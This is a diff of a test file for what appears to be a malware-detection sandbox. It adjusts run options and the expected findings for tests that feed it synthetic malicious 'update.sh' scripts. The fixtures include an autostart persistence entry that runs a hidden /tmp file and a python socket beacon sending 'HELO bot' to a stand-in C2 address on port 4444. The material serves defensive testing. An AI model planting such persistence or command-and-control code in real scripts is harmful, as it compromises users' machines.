@@ -397,7 +397,7 @@ def test_persistence_and_raw_ip_c2_is_malicious(run, persist):
     script = ("#!/bin/sh\n" + install
               + "python3 -c 'import socket; s=socket.create_connection((\"203.0.113.10\", 4444), 3); "
                 "s.sendall(b\"HELO bot\"); s.close()'\n").encode()
-    r = run(script, "update.sh")
+    r = run(script, "update.sh", stop_on_malicious=False)  # persistence + C2 is conclusive: see the whole run
     assert r["verdict"] == "malicious", r["findings"]
     assert {"persistence_" + ("autostart" if persist == "autostart" else "cron"), "network_raw_ip"} <= ids(r)
     text = log_text(r)
@@ -419,7 +419,7 @@ def test_guest_conditions_slow_start_up_and_no_iptables_give_the_same_verdict(ru
               b'printf "[Desktop Entry]\\nExec=/tmp/.u\\n" > "$HOME/.config/autostart/x.desktop"\n'
               b"python3 -c 'import socket; s=socket.create_connection((\"203.0.113.10\", 4444), 3); "
               b"s.sendall(b\"HELO bot\"); s.close()'\n")
-    r = run(script, "update.sh", idle_s=0.5)
+    r = run(script, "update.sh", idle_s=0.5, stop_on_malicious=False)
     assert r["verdict"] == "malicious", r["findings"]
     assert {"persistence_autostart", "network_raw_ip"} <= ids(r)
     assert '"HELO bot"' in log_text(r)  # the fallback listener on 4444 got the connection
@@ -742,7 +742,7 @@ def test_windows_pe_in_a_warm_wine_sandbox_through_its_socket(tmp_path, monkeypa
     daemon.join(30)
     assert served == [0] and not os.path.exists(sock)  # one job, then gone
     assert r["launcher"] == "wine_pe" and r["verdict"] == "malicious", r["findings"]
-    assert ids(r) == {"persistence_registry_run", "network_raw_ip"}, r["findings"]
+    assert ids(r) == {"persistence_registry_run", "network_raw_ip", "combo_persistence_c2"}, r["findings"]
     wine_ev = [e for e in r["log"] if e["type"] == "wine"]
     assert wine_ev and wine_ev[0]["warm"] is True and wine_ev[0]["server_age_s"] > 0, wine_ev
     # the warm wineserver served the sample and counts as the sample's: its connect is in the trace
